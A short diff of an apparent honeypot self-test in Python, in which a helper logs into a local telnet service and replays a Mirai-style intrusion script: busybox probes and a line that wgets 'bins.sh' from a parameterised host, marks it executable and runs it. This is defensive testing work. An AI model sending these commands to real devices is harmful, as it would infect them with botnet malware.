@@ -214,8 +214,7 @@ async def _server() -> AsyncIterator[str]:
 async def _telnet_attack(port: int, address: str) -> None:
     from mead.deck.selftest import telnet_login  # noqa: PLC0415 - the visitor brings an SSH library along
 
-    reader, writer = await asyncio.open_connection(_LOCAL, port)
-    await telnet_login(reader, writer)
+    reader, writer = await telnet_login(_LOCAL, port)
     for line in (
         "enable", "system", "shell", "sh", "/bin/busybox MEADDEMO", "cat /proc/mounts; /bin/busybox MEADDEMO",
         f"cd /tmp || cd /var/run; wget http://{address}/bins.sh; chmod 777 bins.sh; sh bins.sh; exit",
